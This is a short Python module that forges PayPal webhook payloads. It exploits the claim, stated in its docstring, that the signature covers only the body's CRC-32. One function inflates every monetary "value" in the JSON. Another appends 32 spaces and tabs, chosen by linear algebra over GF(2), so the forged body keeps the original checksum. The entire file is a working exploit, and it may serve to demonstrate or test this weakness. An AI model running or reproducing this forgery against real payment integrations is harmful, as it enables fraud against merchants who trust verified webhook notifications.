"""Another body with the same CRC-32: what anyone who saw one genuine webhook can make.

PayPal's signature binds only the CRC-32 of the body. A CRC is linear over XOR, so 32 characters
of which each may be one of two are enough to reach any of its values.
"""

from __future__ import annotations

import json
import re
import zlib

__all__ = ["twin_of", "with_crc"]

_FREE = 32
"""x**8 has 32 conjugates in the field of CRC-32's polynomial, which is primitive: 32 neighbouring
bytes that change alike change the checksum in 32 independent ways."""

_VALUE = re.compile(r'("value":")(?=\d)')


def twin_of(body: str) -> str | None:
    """``body`` with larger amounts, still JSON and with the same CRC-32; None without amounts."""
    other = _VALUE.sub(r"\g<1>9", body)
    if other == body:
        return None
    forged = with_crc(other.encode(), zlib.crc32(body.encode())).decode()
    json.loads(forged)
    return forged


def with_crc(document: bytes, wanted: int) -> bytes:
    """``document`` followed by 32 blanks and tabs that bring its CRC-32 to ``wanted``."""
    blanks = bytearray(b" " * _FREE)
    missing = zlib.crc32(document + blanks) ^ wanted
    # Gauss over GF(2): by its highest bit, a change of the checksum and what causes it.
    basis: dict[int, tuple[int, int]] = {}
    for position in range(_FREE):
        change, causes = _reduced(_change_of(position), 1 << position, basis)
        basis[change.bit_length()] = (change, causes)
    _, chosen = _reduced(missing, 0, basis)
    for position in range(_FREE):
        if chosen >> position & 1:
            blanks[position] = ord("\t")
    return document + blanks


def _reduced(change: int, causes: int, basis: dict[int, tuple[int, int]]) -> tuple[int, int]:
    while change.bit_length() in basis:
        row, row_causes = basis[change.bit_length()]
        change, causes = change ^ row, causes ^ row_causes
    return change, causes


def _change_of(position: int) -> int:
    """What a tab for the blank at ``position`` does to the checksum, whatever stands before."""
    changed = bytearray(b" " * _FREE)
    changed[position] = ord("\t")
    return zlib.crc32(changed) ^ zlib.crc32(b" " * _FREE)
